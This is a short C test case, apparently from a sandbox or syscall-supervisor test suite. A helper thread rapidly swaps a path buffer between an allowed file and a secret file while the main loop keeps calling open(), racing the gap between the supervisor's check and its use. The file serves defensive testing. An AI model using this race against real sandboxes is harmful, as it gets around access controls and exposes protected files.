#include "attack.h"
// A second thread rewrites the path between a check and its use. A supervisor that lets the call go on loses after some 500 tries.
static char name[512];
static volatile bool stop;
static void *flip(void *x) {
  while (!stop) memcpy(name, arg("rofile"), strlen(arg("rofile")) + 1), memcpy(name, arg("secret"), strlen(arg("secret")) + 1);
  return x;
}
ATTACK(.judge = "secret:file") {
  pthread_t t;
  pthread_create(&t, NULL, flip, NULL);
  for (double end = now() + 0.6; now() < end;) {
    if (glimpse(open(name, O_RDONLY | O_CLOEXEC))) break;
  }
  stop = true;
  pthread_join(t, NULL);
}
